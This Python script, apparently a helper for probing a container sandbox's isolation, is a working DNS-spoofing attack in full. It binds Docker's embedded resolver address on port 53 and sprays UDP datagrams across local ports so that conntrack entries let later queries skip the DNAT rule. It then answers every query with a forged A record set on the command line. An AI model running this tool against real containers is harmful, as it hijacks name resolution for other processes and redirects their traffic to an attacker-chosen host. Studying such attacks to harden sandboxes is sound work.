#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""The forged-answer attack on the init's DNS, as the sandbox user can run
it where Docker's embedded DNS is the resolver (127.0.0.11, reached through
a DNAT rule in the container's own namespace, with
ip_unprivileged_port_start=0):

  forgedns.py --bind 127.0.0.11 --ports 40000-40999 --answer 198.51.100.20

binds BIND:53 over UDP, sends one datagram from there to 127.0.0.1 on every
port of PORTS (each leaves a conntrack entry whose reply direction a later
query from that port would match, skipping the DNAT), prints "ready", then
answers every query it receives with ANSWER (A) and prints "query NAME" for
each. --again re-sends the datagrams when a line arrives on stdin."""
import argparse
import socket
import struct
import sys
import threading


def parse(msg):
    labels, i = [], 12
    while i < len(msg) and msg[i] != 0:
        n = msg[i]
        labels.append(msg[i + 1:i + 1 + n].decode("ascii", "replace"))
        i += 1 + n
    qtype = struct.unpack("!H", msg[i + 1:i + 3])[0]
    return ".".join(labels), qtype, msg[12:i + 5]


def answer(msg, addr):
    name, qtype, question = parse(msg)
    an = 1 if qtype == 1 else 0
    head = msg[:2] + struct.pack("!HHHHH", 0x8180, 1, an, 0, 0)
    body = question
    if an:
        body += struct.pack("!HHHIH", 0xC00C, 1, 1, 60, 4) + socket.inet_aton(addr)
    return name, head + body


def spray(sock, ports):
    sent = 0
    for port in ports:
        try:
            sock.sendto(b"\0" * 12, ("127.0.0.1", port))
            sent += 1
        except OSError:
            pass        # refused by the firewall: nothing to prepare
    return sent


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--bind", default="127.0.0.11")
    ap.add_argument("--ports", default="40000-40999")
    ap.add_argument("--answer", required=True)
    args = ap.parse_args()
    lo, hi = (int(p) for p in args.ports.split("-"))
    ports = range(lo, hi + 1)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((args.bind, 53))
    spray(sock, ports)
    print("ready", flush=True)

    def again():
        for _ in sys.stdin:
            spray(sock, ports)
            print("sprayed", flush=True)
    threading.Thread(target=again, daemon=True).start()
    while True:
        msg, peer = sock.recvfrom(4096)
        if len(msg) < 17:
            continue
        try:
            name, reply = answer(msg, args.answer)
        except (IndexError, struct.error):
            continue
        print(f"query {name}", flush=True)
        sock.sendto(reply, peer)


if __name__ == "__main__":
    main()
